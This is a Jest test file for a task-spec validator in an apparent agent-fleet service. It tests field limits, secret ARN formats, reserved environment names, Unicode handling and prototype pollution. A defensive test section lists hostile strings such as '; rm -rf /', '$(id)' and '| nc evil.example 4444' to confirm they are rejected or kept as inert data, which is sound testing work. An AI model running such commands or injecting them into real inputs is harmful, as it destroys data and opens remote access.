/**
 * The task spec: what a submitter may ask for, and the messages it gets when the ask is wrong.
 * Every rejection must name the field (`spec.<path>`), say what was expected and what was got.
 */
import {
  DEFAULT_TIMINGS,
  LIMITS,
  RESERVED_ENV_NAMES,
  RESERVED_ENV_PREFIXES,
  SECRET_ARN_PATTERN,
  TASK_ID_PATTERN,
  isReservedEnvName,
  parseTaskSpec,
  taskIdForIdempotencyKey,
  type TaskSpec,
} from '../../daemon/src/contract';

// ---------------------------------------------------------------------------------------------
// Factories
// ---------------------------------------------------------------------------------------------

const IMAGE = 'agent-fleet/demo-agent:latest';
const SECRET_ARN = 'arn:aws:secretsmanager:us-east-1:123456789012:secret:fleet/demo-AbCdEf';

/** The smallest valid spec, with overrides (an `undefined` override removes the field). */
const makeSpec = (overrides: Record<string, unknown> = {}): Record<string, unknown> => {
  const spec: Record<string, unknown> = { image: IMAGE, ...overrides };
  for (const [k, v] of Object.entries(spec)) if (v === undefined) delete spec[k];
  return spec;
};

/** A spec that sets every field. */
const makeFullSpec = (): Record<string, unknown> => ({
  image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/agent:1.2',
  command: ['python', '-m', 'agent.batch', '--once'],
  payload: { repo: 'org/repo', prompt: 'fix the bug', depth: 3, flags: [true, null, 1.5] },
  env: { LOG_LEVEL: 'debug', _PRIVATE: '1' },
  secrets: { GITHUB_TOKEN: SECRET_ARN },
  cpus: 2.5,
  memory_mb: 4096,
  pids: 512,
  disk_mb: 20480,
  timeout_s: 3600,
  idempotency_key: 'abca-task-42',
  labels: { team: 'agents', 'app.kubernetes.io/name': 'agent' },
  repo: 'org/repo',
});

const accept = (input: unknown): TaskSpec => {
  const parsed = parseTaskSpec(input);
  if (!parsed.ok) throw new Error(`expected the spec to be accepted, got: ${parsed.problems.join(' | ')}`);
  return parsed.value;
};

const reject = (input: unknown): string[] => {
  const parsed = parseTaskSpec(input);
  if (parsed.ok) throw new Error(`expected the spec to be rejected, got: ${JSON.stringify(parsed.value)}`);
  return parsed.problems;
};

/** The problem about `field` (exact path, or a path below it). */
const problemAbout = (problems: string[], field: string): string => {
  const found = problems.find((p) => p.startsWith(`${field}:`) || p.startsWith(`${field}.`) || p.startsWith(`${field}[`));
  if (found === undefined) throw new Error(`no problem about ${field} in: ${problems.join(' | ')}`);
  return found;
};

// ---------------------------------------------------------------------------------------------

describe('Contract: task spec', () => {
  describe('valid specs', () => {
    it('fills every default into a minimal spec', () => {
      // Prepare
      const input = makeSpec();

      // Act
      const spec = accept(input);

      // Assess
      expect(spec).toEqual({
        image: IMAGE,
        env: {},
        secrets: {},
        cpus: 1,
        memory_mb: 2048,
        pids: 1024,
        disk_mb: 10 * 1024,
        timeout_s: DEFAULT_TIMINGS.defaultTaskTimeoutSeconds,
        labels: {},
      });
      expect(spec.timeout_s).toBe(2 * 3600);
    });

    it('leaves optional fields absent rather than undefined', () => {
      // Act
      const spec = accept(makeSpec());

      // Assess
      for (const key of ['command', 'payload', 'payload_ref', 'idempotency_key', 'repo']) {
        expect(Object.prototype.hasOwnProperty.call(spec, key)).toBe(false);
      }
    });

    it('keeps a full spec exactly as given', () => {
      // Prepare
      const input = makeFullSpec();

      // Act
      const spec = accept(input);

      // Assess
      expect(spec).toEqual(input);
    });

    it('does not mutate its input', () => {
      // Prepare
      const input = makeSpec();
      const before = structuredClone(input);

      // Act
      accept(input);

      // Assess
      expect(input).toEqual(before);
    });

    it('accepts a payload_ref instead of an inline payload', () => {
      // Act
      const spec = accept(makeSpec({ payload_ref: { bucket: 'fleet-payloads-1', key: 'tasks/t-1/payload.json' } }));

      // Assess
      expect(spec.payload_ref).toEqual({ bucket: 'fleet-payloads-1', key: 'tasks/t-1/payload.json' });
      expect(spec.payload).toBeUndefined();
    });

    it.each([
      'agent',
      'agent:1',
      'agent-fleet/demo-agent:latest',
      'library/ubuntu:22.04',
      '123456789012.dkr.ecr.us-east-1.amazonaws.com/agent:1.2',
      'localhost:5000/agent:dev',
      'registry.example.com/team/sub_team/agent__x:v1.2.3-rc.1',
      `agent@sha256:${'a'.repeat(64)}`,
      `ghcr.io/org/agent:1@sha256:${'0123456789abcdef'.repeat(4)}`,
    ])('accepts the image reference %s', (image) => {
      // Act
      const spec = accept(makeSpec({ image }));

      // Assess
      expect(spec.image).toBe(image);
    });

    it.each([
      ['cpus', 0.1],
      ['cpus', 192],
      ['memory_mb', 64],
      ['memory_mb', 1024 * 1024],
      ['pids', 16],
      ['pids', 65536],
      ['timeout_s', 1],
      ['timeout_s', DEFAULT_TIMINGS.maxTaskTimeoutSeconds],
      ['idempotency_key', 'k'],
      ['idempotency_key', 'k'.repeat(128)],
      ['repo', 'r'.repeat(256)],
      ['command', Array.from({ length: 256 }, () => 'x'.repeat(4096))],
    ])('accepts the boundary value %s = %p', (field, value) => {
      // Act
      const spec = accept(makeSpec({ [field]: value }));

      // Assess
      expect(spec[field as keyof TaskSpec]).toEqual(value);
    });

    it('accepts 32 labels', () => {
      // Prepare
      const labels = Object.fromEntries(Array.from({ length: 32 }, (_, i) => [`l${i}`, `v${i}`]));

      // Act
      const spec = accept(makeSpec({ labels }));

      // Assess
      expect(Object.keys(spec.labels)).toHaveLength(32);
    });

    it('accepts well-formed non-ASCII text (surrogate pairs, combining marks)', () => {
      // Prepare
      const text = 'héllo 👋 日本語 e\u0301';

      // Act
      const spec = accept(makeSpec({ env: { GREETING: text }, command: [text], labels: { note: text } }));

      // Assess
      expect(spec.env.GREETING).toBe(text);
      expect(spec.command).toEqual([text]);
      expect(spec.labels.note).toBe(text);
    });
  });

  describe('rejected values name the field, what was expected and what was got', () => {
    /** [field path, bad value (set on the top-level field), expected fragment, got fragment]. */
    const cases: ReadonlyArray<readonly [string, string, unknown, string, string]> = [
      // image
      ['spec.image', 'image', 'Agent:1', 'expected an image reference', 'got "Agent:1"'],
      ['spec.image', 'image', '', 'expected an image reference', 'got ""'],
      ['spec.image', 'image', 'agent:1 --privileged', 'expected an image reference', 'got "agent:1 --privileged"'],
      ['spec.image', 'image', 'https://registry/agent', 'expected an image reference', 'got "https://registry/agent"'],
      ['spec.image', 'image', 'agent/', 'expected an image reference', 'got "agent/"'],
      ['spec.image', 'image', 5, 'expected string', 'got number 5'],
      ['spec.image', 'image', null, 'expected string', 'got null'],
      ['spec.image', 'image', undefined, 'expected string', 'got nothing'],
      ['spec.image', 'image', `agent/${'a'.repeat(600)}`, 'expected at most', '(606 chars)'],
      // command
      ['spec.command', 'command', 'python -m agent', 'expected array', 'got "python -m agent"'],
      ['spec.command', 'command', [], 'expected array to have >=1 items', 'got an array of 0'],
      ['spec.command', 'command', Array.from({ length: 257 }, () => 'x'), 'expected array to have <=256 items', 'got an array of 257'],
      ['spec.command[1]', 'command', ['python', 7], 'expected string', 'got number 7'],
      ['spec.command[0]', 'command', ['x'.repeat(4097)], 'expected at most 4096 characters', '(4097 chars)'],
      // payload
      ['spec.payload', 'payload', ['not', 'an', 'object'], 'expected record', 'got an array of 3'],
      ['spec.payload', 'payload', 'a string', 'expected record', 'got "a string"'],
      ['spec.payload', 'payload', null, 'expected record', 'got null'],
      ['spec.payload.n', 'payload', { n: BigInt(1) }, 'expected', 'got bigint 1'],
      ['spec.payload.n', 'payload', { n: Number.NaN }, 'expected', 'got number NaN'],
      ['spec.payload.n', 'payload', { n: Number.POSITIVE_INFINITY }, 'expected', 'got number Infinity'],
      ['spec.payload.n', 'payload', { n: undefined }, 'expected', 'got nothing'],
      ['spec.payload.deep.list[1]', 'payload', { deep: { list: [1, BigInt(2)] } }, 'expected', 'got bigint 2'],
      // payload_ref
      ['spec.payload_ref', 'payload_ref', 's3://bucket/key', 'expected object', 'got "s3://bucket/key"'],
      ['spec.payload_ref.bucket', 'payload_ref', { bucket: 'Bucket_1', key: 'k' }, 'expected an S3 bucket name', 'got "Bucket_1"'],
      ['spec.payload_ref.key', 'payload_ref', { bucket: 'bucket-1', key: '' }, 'expected a non-empty S3 key', 'got ""'],
      ['spec.payload_ref.key', 'payload_ref', { bucket: 'bucket-1' }, 'expected string', 'got nothing'],
      // env
      ['spec.env', 'env', 'FOO=bar', 'expected record', 'got "FOO=bar"'],
      ['spec.env.FOO', 'env', { FOO: 1 }, 'expected string', 'got number 1'],
      ['spec.env.FOO', 'env', { FOO: 'x'.repeat(32 * 1024 + 1) }, 'expected at most 32768 characters', '(32769 chars)'],
      // secrets
      ['spec.secrets.TOKEN', 'secrets', { TOKEN: 'plain-text-secret' }, 'expected a Secrets Manager secret ARN', 'got "plain-text-secret"'],
      ['spec.secrets.TOKEN', 'secrets', { TOKEN: 7 }, 'expected string', 'got number 7'],
      // cpus
      ['spec.cpus', 'cpus', 0, 'expected at least 0.1 CPUs', 'got number 0'],
      ['spec.cpus', 'cpus', 0.05, 'expected at least 0.1 CPUs', 'got number 0.05'],
      ['spec.cpus', 'cpus', -1, 'expected at least 0.1 CPUs', 'got number -1'],
      ['spec.cpus', 'cpus', 193, 'expected number to be <=192', 'got number 193'],
      ['spec.cpus', 'cpus', '2', 'expected number', 'got "2"'],
      ['spec.cpus', 'cpus', Number.NaN, 'expected number', 'got number NaN'],
      ['spec.cpus', 'cpus', Number.POSITIVE_INFINITY, 'expected number', 'got number Infinity'],
      ['spec.cpus', 'cpus', null, 'expected number', 'got null'],
      // memory_mb
      ['spec.memory_mb', 'memory_mb', 63, 'expected at least 64 MiB', 'got number 63'],
      ['spec.memory_mb', 'memory_mb', 1024 * 1024 + 1, 'expected number to be <=1048576', 'got number 1048577'],
      ['spec.memory_mb', 'memory_mb', 100.5, 'expected int', 'got number 100.5'],
      ['spec.memory_mb', 'memory_mb', '2048', 'expected number', 'got "2048"'],
      // pids
      ['spec.pids', 'pids', 15, 'expected number to be >=16', 'got number 15'],
      ['spec.pids', 'pids', 65537, 'expected number to be <=65536', 'got number 65537'],
      ['spec.pids', 'pids', 1.5, 'expected int', 'got number 1.5'],
      // timeout_s
      ['spec.timeout_s', 'timeout_s', 0, 'expected number to be >=1', 'got number 0'],
      ['spec.timeout_s', 'timeout_s', -5, 'expected number to be >=1', 'got number -5'],
      ['spec.timeout_s', 'timeout_s', 39601, 'expected at most 39600 s', 'got number 39601'],
      ['spec.timeout_s', 'timeout_s', 12 * 3600, 'SQS allows 12 h of total visibility', 'got number 43200'],
      ['spec.timeout_s', 'timeout_s', 1.5, 'expected int', 'got number 1.5'],
      // idempotency_key
      ['spec.idempotency_key', 'idempotency_key', '', 'expected string to have >=1 characters', 'got ""'],
      ['spec.idempotency_key', 'idempotency_key', 'k'.repeat(129), 'expected at most 128 characters', '(129 chars)'],
      ['spec.idempotency_key', 'idempotency_key', 42, 'expected string', 'got number 42'],
      // labels
      ['spec.labels', 'labels', ['team'], 'expected record', 'got an array of 1'],
      ['spec.labels.team', 'labels', { team: 5 }, 'expected string', 'got number 5'],
      ['spec.labels.team', 'labels', { team: 'x'.repeat(257) }, 'expected at most 256 characters', '(257 chars)'],
      // repo
      ['spec.repo', 'repo', 5, 'expected string', 'got number 5'],
      ['spec.repo', 'repo', 'r'.repeat(257), 'expected at most 256 characters', '(257 chars)'],
    ];

    it.each(cases)('%s = %p', (field, key, value, expected, got) => {
      // Prepare
      const input = makeSpec({ [key]: value });

      // Act
      const problems = reject(input);

      // Assess
      const problem = problemAbout(problems, field);
      expect(problem.startsWith(`${field}: `)).toBe(true);
      expect(problem).toContain(expected);
      expect(problem).toContain(got);
    });

    it('reports every bad field at once, not only the first', () => {
      // Act
      const problems = reject(makeSpec({ cpus: 0, memory_mb: 1, pids: 1, timeout_s: 0 }));

      // Assess
      expect(problems).toHaveLength(4);
      for (const field of ['spec.cpus', 'spec.memory_mb', 'spec.pids', 'spec.timeout_s']) problemAbout(problems, field);
    });

    it.each([
      ['null', null, 'got null'],
      ['a string', 'image: agent', 'got "image: agent"'],
      ['a number', 42, 'got number 42'],
      ['an array', [{ image: IMAGE }], 'got an array of 1'],
      ['nothing', undefined, 'got nothing'],
    ])('rejects %s in place of the spec object', (_name, input, got) => {
      // Act
      const problems = reject(input);

      // Assess
      expect(problems).toEqual([`spec: expected object, ${got}`]);
    });
  });

  describe('keys of env, secrets and labels', () => {
    it.each([
      ['spec.env.bad-name', 'env', { 'bad-name': 'x' }, 'expected an environment variable name matching'],
      ['spec.env', 'env', { '1ABC': 'x' }, 'expected an environment variable name matching'],
      ['spec.env', 'env', { 'A B': 'x' }, 'expected an environment variable name matching'],
      ['spec.env', 'env', { ['V'.repeat(129)]: 'x' }, 'expected an environment variable name matching'],
      ['spec.secrets', 'secrets', { 'has space': SECRET_ARN }, 'expected an environment variable name matching'],
      ['spec.labels.Team', 'labels', { Team: 'x' }, 'expected a label key of lower-case letters'],
      ['spec.labels', 'labels', { '-team': 'x' }, 'expected a label key of lower-case letters'],
      ['spec.labels', 'labels', { ['k'.repeat(64)]: 'x' }, 'at most 63 characters'],
    ])('%s: a bad key is reported with the rule it broke', (field, key, value, expected) => {
      // Act
      const problems = reject(makeSpec({ [key]: value }));

      // Assess
      const problem = problemAbout(problems, field);
      expect(problem).toContain(expected);
    });

    it('more than 32 labels are rejected on the labels field', () => {
      // Prepare
      const labels = Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`l${i}`, 'v']));

      // Act
      const problems = reject(makeSpec({ labels }));

      // Assess
      expect(problems).toEqual(['spec.labels: expected at most 32 labels, got an object']);
    });

    it('a name set in both env and secrets is rejected, naming it', () => {
      // Act
      const problems = reject(makeSpec({ env: { TOKEN: 'x', A: 'y' }, secrets: { TOKEN: SECRET_ARN } }));

      // Assess
      expect(problemAbout(problems, 'spec.secrets')).toContain('names also set in env: TOKEN');
    });
  });

  describe('unknown fields', () => {
    it.each([
      ['a typo', { timeoutS: 60 }, '"timeoutS"'],
      ['a camelCase twin', { memoryMb: 1024 }, '"memoryMb"'],
      ['a field the daemon sets itself', { status: 'COMPLETED' }, '"status"'],
      ['several at once', { a: 1, b: 2 }, '"a", "b"'],
    ])('rejects %s, naming the field', (_name, extra, named) => {
      // Act
      const problems = reject(makeSpec(extra));

      // Assess
      expect(problems).toEqual([`spec: unknown field(s) ${named}; remove them (check the spelling)`]);
    });

    it('rejects an unknown field inside payload_ref', () => {
      // Act
      const problems = reject(makeSpec({ payload_ref: { bucket: 'bucket-1', key: 'k', region: 'us-east-1' } }));

      // Assess
      expect(problems).toEqual(['spec.payload_ref: unknown field(s) "region"; remove them (check the spelling)']);
    });

    it('does not treat a payload key as unknown: the payload is free-form JSON', () => {
      // Act
      const spec = accept(makeSpec({ payload: { anything: { goes: ['here'] } } }));

      // Assess
      expect(spec.payload).toEqual({ anything: { goes: ['here'] } });
    });
  });

  describe('payload vs payload_ref', () => {
    it('rejects both at once', () => {
      // Act
      const problems = reject(makeSpec({ payload: { a: 1 }, payload_ref: { bucket: 'bucket-1', key: 'k' } }));

      // Assess
      expect(problemAbout(problems, 'spec.payload')).toContain('give either payload or payload_ref, not both');
    });

    it.each([
      ['payload only', { payload: { a: 1 } }],
      ['payload_ref only', { payload_ref: { bucket: 'bucket-1', key: 'k' } }],
      ['neither', {}],
    ])('accepts %s', (_name, fields) => {
      // Act & Assess
      expect(parseTaskSpec(makeSpec(fields)).ok).toBe(true);
    });
  });

  describe('inline payload size cap', () => {
    /** `{"p":"xxx…"}` is exactly `bytes` bytes of UTF-8 JSON. */
    const payloadOfBytes = (bytes: number): Record<string, string> => ({ p: 'x'.repeat(bytes - '{"p":""}'.length) });

    it('accepts a payload of exactly the cap', () => {
      // Prepare
      const payload = payloadOfBytes(LIMITS.inlinePayloadBytes);

      // Act
      const spec = accept(makeSpec({ payload }));

      // Assess
      expect(Buffer.byteLength(JSON.stringify(spec.payload))).toBe(LIMITS.inlinePayloadBytes);
    });

    it('rejects one byte more, saying how big it is, the cap and what to do instead', () => {
      // Act
      const problems = reject(makeSpec({ payload: payloadOfBytes(LIMITS.inlinePayloadBytes + 1) }));

      // Assess
      const problem = problemAbout(problems, 'spec.payload');
      expect(problem).toContain(`inline payload is ${LIMITS.inlinePayloadBytes + 1} bytes`);
      expect(problem).toContain(`expected at most ${LIMITS.inlinePayloadBytes}`);
      expect(problem).toContain('payload_ref');
    });

    it('counts UTF-8 bytes, not characters', () => {
      // Prepare: 20 000 characters, 40 000 bytes
      const payload = { p: 'é'.repeat(20_000) };

      // Act
      const problems = reject(makeSpec({ payload }));

      // Assess
      expect(problemAbout(problems, 'spec.payload')).toContain(`inline payload is ${20_000 * 2 + 8} bytes`);
    });

    it('does not cap a payload_ref (the payload lives in S3)', () => {
      // Act & Assess
      expect(parseTaskSpec(makeSpec({ payload_ref: { bucket: 'bucket-1', key: 'k'.repeat(1024) } })).ok).toBe(true);
    });
  });

  describe('reserved environment names', () => {
    const reserved = ['TASK_ID', 'AGENT_PAYLOAD', 'FLEET_TASK_ID', 'FLEET_ATTEMPT', 'FLEET_', 'FLEET_ANYTHING', 'AWS_REGION', 'AWS_ACCESS_KEY_ID', 'AWS_', 'AWS_ENDPOINT_URL'];

    it('the contract reserves TASK_ID, AGENT_PAYLOAD, FLEET_* and AWS_*', () => {
      // Assess
      expect([...RESERVED_ENV_NAMES].sort()).toEqual(['AGENT_PAYLOAD', 'TASK_ID']);
      expect([...RESERVED_ENV_PREFIXES].sort()).toEqual(['AWS_', 'FLEET_']);
    });

    describe.each(['env', 'secrets'])('in %s', (field) => {
      it.each(reserved)('rejects %s, naming it and saying it is reserved', (name) => {
        // Prepare
        const value = field === 'env' ? 'x' : SECRET_ARN;

        // Act
        const problems = reject(makeSpec({ [field]: { [name]: value } }));

        // Assess
        expect(isReservedEnvName(name)).toBe(true);
        const problem = problemAbout(problems, `spec.${field}.${name}`);
        expect(problem).toContain('is reserved');
        expect(problem).toContain('choose another name');
      });
    });

    it.each(['task_id', 'TASK_IDS', 'MY_TASK_ID', 'AGENT_PAYLOAD_FILE', 'FLEET', 'FLEETX', 'AWS', 'MY_AWS_KEY', 'aws_region', 'fleet_x'])(
      'accepts the near miss %s (names are case-sensitive and only the exact names / prefixes are reserved)',
      (name) => {
        // Act
        const spec = accept(makeSpec({ env: { [name]: 'x' } }));

        // Assess
        expect(isReservedEnvName(name)).toBe(false);
        expect(spec.env[name]).toBe('x');
      },
    );
  });

  describe('secret ARNs', () => {
    it.each([
      SECRET_ARN,
      'arn:aws:secretsmanager:eu-west-1:000000000000:secret:a',
      'arn:aws-us-gov:secretsmanager:us-gov-west-1:123456789012:secret:prod/db_password+x=y.z@w-AbCdEf',
      'arn:aws-cn:secretsmanager:cn-north-1:123456789012:secret:x',
      `arn:aws:secretsmanager:us-east-1:123456789012:secret:${'s'.repeat(512)}`,
    ])('accepts %s', (arn) => {
      // Act
      const spec = accept(makeSpec({ secrets: { TOKEN: arn } }));

      // Assess
      expect(spec.secrets.TOKEN).toBe(arn);
      expect(SECRET_ARN_PATTERN.test(arn)).toBe(true);
    });

    it.each([
      ['another service', 'arn:aws:ssm:us-east-1:123456789012:parameter/x'],
      ['an 11-digit account', 'arn:aws:secretsmanager:us-east-1:12345678901:secret:x'],
      ['no region', 'arn:aws:secretsmanager::123456789012:secret:x'],
      ['no secret name', 'arn:aws:secretsmanager:us-east-1:123456789012:secret:'],
      ['a trailing newline', `${SECRET_ARN}\n`],
      ['a shell suffix', `${SECRET_ARN};id`],
      ['a command substitution', 'arn:aws:secretsmanager:us-east-1:123456789012:secret:$(id)'],
      ['a space', 'arn:aws:secretsmanager:us-east-1:123456789012:secret:a b'],
      ['a name over 512 characters', `arn:aws:secretsmanager:us-east-1:123456789012:secret:${'s'.repeat(513)}`],
      ['a bare name', 'prod/db'],
      ['an upper-case partition', 'arn:AWS:secretsmanager:us-east-1:123456789012:secret:x'],
    ])('rejects %s', (_name, arn) => {
      // Act
      const problems = reject(makeSpec({ secrets: { TOKEN: arn } }));

      // Assess
      expect(problemAbout(problems, 'spec.secrets.TOKEN')).toContain('expected a Secrets Manager secret ARN');
    });
  });

  describe('lone surrogates and NUL characters', () => {
    const LONE_HIGH = 'ab\uD800cd';
    const LONE_LOW = 'ab\uDC00cd';
    const REVERSED_PAIR = '\uDC00\uD800';
    const NUL = 'ab\u0000cd';

    /** [field path, spec overrides carrying `bad` in one string]. */
    const places = (bad: string): ReadonlyArray<readonly [string, Record<string, unknown>]> => [
      ['spec.command[1]', { command: ['run', bad] }],
      ['spec.env.NOTE', { env: { NOTE: bad } }],
      ['spec.labels.note', { labels: { note: bad } }],
      ['spec.idempotency_key', { idempotency_key: bad }],
      ['spec.repo', { repo: bad }],
      ['spec.payload_ref.key', { payload_ref: { bucket: 'bucket-1', key: bad } }],
    ];

    describe.each([
      ['a lone high surrogate', LONE_HIGH, 'expected valid Unicode'],
      ['a lone low surrogate', LONE_LOW, 'expected valid Unicode'],
      ['a reversed surrogate pair', REVERSED_PAIR, 'expected valid Unicode'],
      ['a NUL character', NUL, 'expected no NUL character'],
    ])('%s', (_name, bad, expected) => {
      it.each(places(bad))('is rejected in %s', (field, overrides) => {
        // Act
        const problems = reject(makeSpec(overrides));

        // Assess
        const problem = problemAbout(problems, field);
        expect(problem).toContain(expected);
      });
    });

    it.each([
      ['a lone high surrogate in a payload string', { note: LONE_HIGH }, 'spec.payload.note'],
      ['a lone low surrogate in a nested payload string', { a: [{ b: LONE_LOW }] }, 'spec.payload.a[0].b'],
      ['a lone surrogate in a payload key', { [LONE_HIGH]: 1 }, 'spec.payload'],
    ])('rejects %s (DynamoDB and Docker cannot carry it verbatim)', (_name, payload, field) => {
      // Act
      const problems = reject(makeSpec({ payload }));

      // Assess
      expect(problemAbout(problems, field)).toContain('expected valid Unicode');
    });

    it('keeps a NUL inside a payload string verbatim (JSON escapes it; it is data, not argv or env)', () => {
      // Act
      const spec = accept(makeSpec({ payload: { note: NUL } }));

      // Assess
      expect(spec.payload).toEqual({ note: NUL });
      expect(JSON.stringify(spec.payload)).toBe('{"note":"ab\\u0000cd"}');
    });

    it('rejects NUL in an env name (it does not match the name pattern)', () => {
      // Act
      const problems = reject(makeSpec({ env: { 'A\u0000B': 'x' } }));

      // Assess
      expect(problems.some((p) => p.startsWith('spec.env') && p.includes('expected an environment variable name'))).toBe(true);
    });
  });

  describe('injection strings are either rejected or kept verbatim as data', () => {
    /** Strings with shell metacharacters, quotes, control characters or template syntax. */
    const shellHostile = [
      '; rm -rf /',
      '$(id)',
      '`id`',
      '"double" \'single\'',
      'line1\nline2',
      'cr\rlf',
      '&& reboot',
      '| nc evil.example 4444',
      '${HOME} $PATH',
      '\\',
      '%s%n%x',
      '<script>alert(1)</script>',
      '{{TaskId}}',
    ];
    /** Strings built only from name characters, but shaped like an option or a path. */
    const optionOrPath = ['--privileged', '../../etc/passwd'];
    const hostile = [...shellHostile, ...optionOrPath];

    /** Free text that travels as data (argv element, env value, JSON, S3 key): never composed into a shell command. */
    const keptVerbatim: ReadonlyArray<readonly [string, (s: string) => Record<string, unknown>, (spec: TaskSpec) => unknown]> = [
      ['a command element', (s) => ({ command: ['agent', s] }), (spec) => spec.command?.[1]],
      ['an env value', (s) => ({ env: { NOTE: s } }), (spec) => spec.env.NOTE],
      ['a label value', (s) => ({ labels: { note: s } }), (spec) => spec.labels.note],
      ['the idempotency key', (s) => ({ idempotency_key: s }), (spec) => spec.idempotency_key],
      ['the repo', (s) => ({ repo: s }), (spec) => spec.repo],
      ['a payload string', (s) => ({ payload: { prompt: s } }), (spec) => spec.payload?.prompt],
      ['a payload key', (s) => ({ payload: { [s]: true } }), (spec) => Object.keys(spec.payload ?? {})[0]],
      ['the payload_ref key', (s) => ({ payload_ref: { bucket: 'bucket-1', key: s } }), (spec) => spec.payload_ref?.key],
    ];

    /** Names, references and identifiers: pattern-checked, so anything shaped like an option or a path, or carrying a shell metacharacter, is rejected. */
    const rejected: ReadonlyArray<readonly [string, string, (s: string) => Record<string, unknown>]> = [
      ['the image', 'spec.image', (s) => ({ image: s })],
      ['an env name', 'spec.env', (s) => ({ env: { [s]: 'v' } })],
      ['a secret name', 'spec.secrets', (s) => ({ secrets: { [s]: SECRET_ARN } })],
      ['a label key', 'spec.labels', (s) => ({ labels: { [s]: 'v' } })],
      ['the payload_ref bucket', 'spec.payload_ref.bucket', (s) => ({ payload_ref: { bucket: s, key: 'k' } })],
    ];

    describe.each(keptVerbatim)('in %s', (_place, build, read) => {
      it.each(hostile)('%j is kept verbatim', (s) => {
        // Act
        const spec = accept(makeSpec(build(s)));

        // Assess
        expect(read(spec)).toBe(s);
      });
    });

    describe.each(rejected)('in %s', (_place, field, build) => {
      it.each(hostile)('%j is rejected', (s) => {
        // Act
        const problems = reject(makeSpec(build(s)));

        // Assess
        problemAbout(problems, field);
      });
    });

    describe('in a secret ARN', () => {
      it.each(shellHostile)('%j appended to the secret name is rejected', (s) => {
        // Act
        const problems = reject(makeSpec({ secrets: { TOKEN: `${SECRET_ARN}${s}` } }));

        // Assess
        expect(problemAbout(problems, 'spec.secrets.TOKEN')).toContain('expected a Secrets Manager secret ARN');
      });

      it.each(optionOrPath)('%j is a legal secret name and is kept verbatim (Secrets Manager names are literal)', (s) => {
        // Prepare
        const arn = `arn:aws:secretsmanager:us-east-1:123456789012:secret:${s}`;

        // Act
        const spec = accept(makeSpec({ secrets: { TOKEN: arn } }));

        // Assess
        expect(spec.secrets.TOKEN).toBe(arn);
      });
    });

    it.each(hostile)('an idempotency key %j still maps to a safe task id', (s) => {
      // Act
      const spec = accept(makeSpec({ idempotency_key: s }));

      // Assess
      expect(taskIdForIdempotencyKey(spec.idempotency_key as string)).toMatch(TASK_ID_PATTERN);
    });

    it.each(hostile)('a rejected value %j is quoted in the message, on one line', (s) => {
      // Act
      const problems = reject(makeSpec({ image: s }));

      // Assess
      const problem = problemAbout(problems, 'spec.image');
      expect(problem).toContain(`got ${JSON.stringify(s)}`);
      expect(problem).not.toMatch(/[\r\n]/);
    });

    it.each(hostile)('a rejected key %j is quoted in the field path, on one line', (s) => {
      // Act
      const problems = reject(makeSpec({ env: { [s]: 'v' } }));

      // Assess
      const problem = problemAbout(problems, 'spec.env');
      expect(problem.startsWith(`spec.env[${JSON.stringify(s)}]: `)).toBe(true);
      expect(problem).not.toMatch(/[\r\n]/);
    });
  });

  describe('__proto__ and other prototype keys', () => {
    it('rejects a top-level "__proto__" field as unknown and pollutes nothing', () => {
      // Prepare
      const input = JSON.parse(`{"image":"${IMAGE}","__proto__":{"cpus":64,"polluted":true}}`) as unknown;

      // Act
      const problems = reject(input);

      // Assess
      expect(problems).toEqual(['spec: unknown field(s) "__proto__"; remove them (check the spelling)']);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('"constructor" and "toString" env names are ordinary names, kept as own keys', () => {
      // Act
      const spec = accept(makeSpec({ env: { constructor: 'a', toString: 'b' } }));

      // Assess
      expect(Object.keys(spec.env).sort()).toEqual(['constructor', 'toString']);
      expect(spec.env.constructor).toBe('a');
    });

    it('a "__proto__" key inside the payload neither pollutes a prototype nor smuggles a field', () => {
      // Prepare
      const input = makeSpec({ payload: JSON.parse('{"__proto__":{"polluted":true},"ok":1}') as unknown });

      // Act
      const spec = accept(input);

      // Assess
      const payload = spec.payload as Record<string, unknown>;
      expect(payload.ok).toBe(1);
      expect(payload.polluted).toBeUndefined();
      expect(Object.getPrototypeOf(payload)).not.toEqual({ polluted: true });
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  });
});

describe('payload nesting (regression: found by the chaos fuzzer)', () => {
  const nested = (levels: number) => {
    let v: Record<string, unknown> = { leaf: 1 };
    for (let i = 1; i < levels; i++) v = { n: v };
    return v;
  };
  test.each([31, 40, 3000])('a payload nested %i levels is rejected with a reason, not a stack overflow', (levels) => {
    // Act
    const r = parseTaskSpec({ image: 'agent-fleet/demo-agent:latest', payload: nested(levels) });
    // Assess
    expect(r.ok).toBe(false);
    expect(r.ok ? [] : r.problems).toEqual([expect.stringMatching(/^spec\.payload: nested more than 30 levels deep/)]);
  });
  test('30 levels is accepted', () => {
    expect(parseTaskSpec({ image: 'agent-fleet/demo-agent:latest', payload: nested(30) }).ok).toBe(true);
  });
});
